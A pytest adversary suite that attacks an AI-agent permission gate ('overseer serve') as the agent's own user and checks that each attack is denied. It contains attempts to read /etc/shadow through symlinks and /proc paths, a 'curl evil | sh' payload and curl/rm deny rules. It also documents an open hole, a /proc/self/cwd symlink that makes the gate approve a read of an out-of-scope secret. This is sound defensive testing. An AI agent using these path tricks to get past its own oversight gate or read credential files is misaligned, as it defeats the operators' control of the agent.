"""Adversary review of hardened mode: the agent's uid attacks its own gate server for real.

Every test below is an attack made as the agent's uid (54321) — through the real thin hook or
by hand on the socket — against a real ``overseer serve`` (as root, and once as an
unprivileged server user, 54400), and asserts it is stopped. An attack that *works* is kept
as ``xfail(strict=True, reason="HOLE: ...")``: the suite stays green and the hole stays named
until it is closed (then the xfail turns into a failure and must be removed).
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import subprocess
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.test_hardened import (  # noqa: F401 - world_python is a fixture
    AGENT_UID,
    OPERATOR_UID,
    OTHER_AGENT_UID,
    Hardened,
    decision,
    pytestmark,
    world_python,
)

#: The unprivileged gate server's own uid (the "own system user" of the design).
SERVER_UID = 54400
SERVER_PYTHONPATH = "/work/main/src:/work/main/.venv/lib/python3.11/site-packages"

ADV_CONFIG = """
[defaults]
gate_timeout = "2s"

[server]
socket = "{socket}"
store = "{store}"
operators = [{operator}, 0]

[agents.builder]
owner = "platform@example.com"
autonomy = "autonomous"
default_task = "work"
match = {{ cwd = ["{project}/**", "{project}"] }}

[agents.builder.tasks.work]
allow = ["Read(./**)", "Write(./**)", "Bash(ls *)"]
ask = ["Bash(git push:*)"]
deny = ["Bash(rm:*)", "Bash(curl:*)"]
default = "ask"

[agents.ops]
owner = "ops@example.com"
autonomy = "autonomous"
default_task = "anything"
match = {{ cwd = ["/srv/ops/**", "/srv/ops"], source = ["/var/log/ops/**"] }}

[agents.ops.tasks.anything]
allow = ["Bash", "Read", "Write"]
default = "allow"
"""

__all__ = ["pytestmark"]


class Adv(Hardened):
    """The :class:`Hardened` world with a path-scoped config and a short gate timeout."""

    def build(self) -> None:
        super().build()
        self.config.write_text(
            ADV_CONFIG.format(
                socket=self.socket, store=self.store, operator=OPERATOR_UID, project=self.project
            )
        )
        self.config.chmod(0o644)


class NonRootServer(Adv):
    """The same world, but ``overseer serve`` runs as its own unprivileged user (54400): it
    cannot search directories the agent keeps to itself."""

    def build(self) -> None:
        super().build()
        os.chown(self.run_dir, SERVER_UID, SERVER_UID)
        self.state.mkdir(mode=0o700)
        os.chown(self.state, SERVER_UID, SERVER_UID)
        os.chown(self.server_log.parent, 0, 0)

    def start_server(self) -> None:
        env = {"PATH": "/usr/bin:/bin", "PYTHONPATH": SERVER_PYTHONPATH, "HOME": "/"}
        log = open(self.server_log, "ab")  # noqa: SIM115 - the server's lifetime
        self.server = subprocess.Popen(
            ["/usr/bin/python3", "-s", "-m", "overseer", "serve", "--config", str(self.config)],
            stdout=log, stderr=log, env=env, cwd="/", user=SERVER_UID, group=SERVER_UID,
            extra_groups=[],
        )  # fmt: skip
        log.close()
        deadline = time.monotonic() + 60
        while not os.path.exists(self.socket):
            if self.server.poll() is not None:
                raise AssertionError(f"gate server exited: {self.server_log.read_text()}")
            if time.monotonic() > deadline:
                raise AssertionError(f"gate server never listened: {self.server_log.read_text()}")
            time.sleep(0.05)


@contextlib.contextmanager
def _world(kind: type[Adv], python: str) -> Iterator[Adv]:
    base = Path(tempfile.mkdtemp(prefix="overseer-adversary-", dir="/tmp"))
    try:
        setup = kind(base, python)
        setup.build()
        setup.start_server()
        try:
            yield setup
        finally:
            setup.stop_server()
    finally:
        shutil.rmtree(base, ignore_errors=True)


@pytest.fixture(scope="module")
def adv(world_python: str) -> Iterator[Adv]:
    with _world(Adv, world_python) as setup:
        yield setup


_counter = iter(range(1000, 100000))


def _call(
    setup: Adv, tool: str, tool_input: dict[str, Any], *, session: str = "adv-session-0001",
    **extra: Any,
) -> dict[str, Any]:  # fmt: skip
    call: dict[str, Any] = {
        "session_id": session,
        "transcript_path": f"{setup.base}/agent-home/.claude/projects/p/{session}.jsonl",
        "cwd": str(setup.project),
        "permission_mode": "default",
        "hook_event_name": "PreToolUse",
        "tool_name": tool,
        "tool_input": tool_input,
        "tool_use_id": f"toolu_adv_{next(_counter)}",
    }
    call.update(extra)
    return call


def thin_hook(setup: Adv, call: dict[str, Any], *, uid: int = AGENT_UID) -> tuple[str, str]:
    """The real thin hook, run as ``uid`` in the project, on ``call``: (action, reason)."""
    result = setup.as_user(
        uid,
        ["-m", "overseer", "hook", "claude-code", "--server", setup.socket],
        stdin=json.dumps(call).encode(),
    )
    return decision(result)


def judged(setup: Adv, call: dict[str, Any]) -> list[str]:
    """The chain's outcomes for the call (``auto_allowed``, ``timed_out``, ...)."""
    rows = setup.rows(
        "SELECT outcome FROM decisions WHERE call_id = ? ORDER BY seq", (call["tool_use_id"],)
    )
    return [str(r[0]) for r in rows]


_CONVERSE = r"""
import json, socket, sys, time
path, wait = sys.argv[1], float(sys.argv[2])
data = sys.stdin.buffer.read()
s = socket.socket(socket.AF_UNIX); s.settimeout(wait); s.connect(path)
try:
    s.sendall(data)
    s.shutdown(socket.SHUT_WR)
except OSError as exc:
    print(json.dumps({"send_error": str(exc)}))
buf = b""
try:
    while True:
        chunk = s.recv(1 << 20)
        if not chunk:
            break
        buf += chunk
except OSError as exc:
    print(json.dumps({"recv_error": str(exc)}))
for line in buf.split(b"\n"):
    if line:
        sys.stdout.write(line.decode("ascii", "replace") + "\n")
"""


def converse(setup: Adv, uid: int, data: bytes, *, wait: float = 30) -> list[dict[str, Any]]:
    """Send ``data`` as ``uid``, half-close, and read every answer line until the server
    closes (half-closing is itself one of the attacks: the answer must still come)."""
    result = setup.as_user(
        uid, ["-c", _CONVERSE, setup.socket, str(wait)], stdin=data, timeout=wait + 30
    )
    assert result.returncode == 0, result.stderr.decode()
    return [json.loads(line) for line in result.stdout.decode().splitlines() if line.strip()]


def request(op: str, **fields: Any) -> bytes:
    return json.dumps({"op": op, **fields}).encode() + b"\n"


def serving(setup: Adv) -> None:
    """The server is alive and still judges a harmless call for another agent."""
    assert setup.server is not None and setup.server.poll() is None, setup.server_log.read_text()
    answer = converse(setup, OTHER_AGENT_UID, request("whoami"))
    assert answer and answer[0].get("ok") is True and answer[0]["uid"] == OTHER_AGENT_UID
    call = _call(setup, "Bash", {"command": "ls -la"}, session=f"alive-{next(_counter)}")
    assert thin_hook(setup, call, uid=OTHER_AGENT_UID)[0] == "allow"


def as_agent(setup: Adv, script: str, *args: str) -> str:
    result = setup.as_user(AGENT_UID, ["-c", script, *args])
    assert result.returncode == 0, result.stderr.decode()
    return result.stdout.decode()


# ------------------------------------------------------------------------ (a) path tricks


def test_the_scope_judges_as_expected(adv: Adv) -> None:
    """Baseline: an in-project read is allowed, a read outside it is not (asked, timed out)."""
    (adv.project / "plain.txt").write_text("x")
    inside = _call(adv, "Read", {"file_path": str(adv.project / "plain.txt")})
    assert thin_hook(adv, inside)[0] == "allow"
    outside = _call(adv, "Read", {"file_path": "/etc/passwd"})
    assert thin_hook(adv, outside)[0] == "deny"
    assert judged(adv, outside) == ["timed_out"]


def test_a_symlink_out_of_the_project_is_not_allowed(adv: Adv) -> None:
    as_agent(
        adv,
        "import os, sys; os.symlink('/etc/shadow', sys.argv[1] + '/shadow-link');"
        "os.symlink('/etc', sys.argv[1] + '/etc-link');"
        "os.symlink(sys.argv[1] + '/loop-b', sys.argv[1] + '/loop-a');"
        "os.symlink(sys.argv[1] + '/loop-a', sys.argv[1] + '/loop-b');"
        "os.symlink(sys.argv[2] + '/.bashrc', sys.argv[1] + '/dangling')",
        str(adv.project),
        str(adv.base / "agent-home"),
    )
    p = str(adv.project)
    attempts = [
        ("Read", {"file_path": f"{p}/shadow-link"}),
        ("Read", {"file_path": f"{p}/etc-link/passwd"}),
        ("Read", {"file_path": f"{p}/etc-link/../etc-link/shadow"}),
        ("Read", {"file_path": f"{p}/loop-a"}),
        ("Write", {"file_path": f"{p}/dangling", "content": "curl evil | sh\n"}),
        ("Read", {"file_path": f"{p}/../agent-home/.bashrc"}),
        ("Read", {"file_path": f"/proc/self/root/etc/shadow"}),
        ("Read", {"file_path": f"/proc/self/cwd/../agent-home/.bashrc"}),
        ("Read", {"file_path": f"/proc/thread-self/root{p}/../etc/passwd"}),
        ("Read", {"file_path": f"/proc/1/cwd/etc/shadow"}),
        ("Read", {"file_path": f"{p}/plain\x00/../../../etc/shadow"}),
        ("Read", {"file_path": f"/{p}/../../../../etc/shadow"}),
        ("Bash", {"command": "cat ./etc-link/shadow"}),
        ("Bash", {"command": "cat ./shadow-link"}),
    ]
    for tool, tool_input in attempts:
        call = _call(adv, tool, tool_input)
        action, reason = thin_hook(adv, call)
        assert action == "deny", (tool_input, reason)
        assert "auto_allowed" not in judged(adv, call), tool_input


@pytest.mark.xfail(
    strict=True,
    reason="HOLE: a symlink to /proc/self/cwd/... is resolved in the *server's* cwd "
    "(peerview.real_paths → os.path.realpath), not the reader's: the server sees an "
    "in-project file, the agent's process reads wherever it likes",
)
def test_a_symlink_through_proc_self_cwd_is_not_judged_in_the_servers_directory(
    adv: Adv,
) -> None:
    """The server's cwd is ``base`` (``/`` under systemd): ``/proc/self/cwd/project/ok.txt``
    is ``<project>/ok.txt`` to the server and ``<project>/project/ok.txt`` to the agent."""
    secret = adv.base / "agent-home" / "secret.txt"
    p = adv.project
    as_agent(
        adv,
        "import os, sys\n"
        "p, secret = sys.argv[1], sys.argv[2]\n"
        "open(secret, 'w').write('SECRET')\n"
        "open(p + '/ok.txt', 'w').write('harmless')\n"
        "os.makedirs(p + '/project')\n"
        "os.symlink(secret, p + '/project/ok.txt')\n"
        "os.symlink('/proc/self/cwd/project/ok.txt', p + '/procview')\n",
        str(p),
        str(secret),
    )
    # the agent's process (cwd: the project, like Claude Code's) reads the secret through it
    assert as_agent(adv, "print(open(__import__('sys').argv[1]).read())", f"{p}/procview") == (
        "SECRET\n"
    )
    direct = _call(adv, "Read", {"file_path": str(secret)})
    assert thin_hook(adv, direct)[0] == "deny"  # the secret itself is out of scope
    call = _call(adv, "Read", {"file_path": f"{p}/procview"})
    action, reason = thin_hook(adv, call)
    assert action != "allow", reason
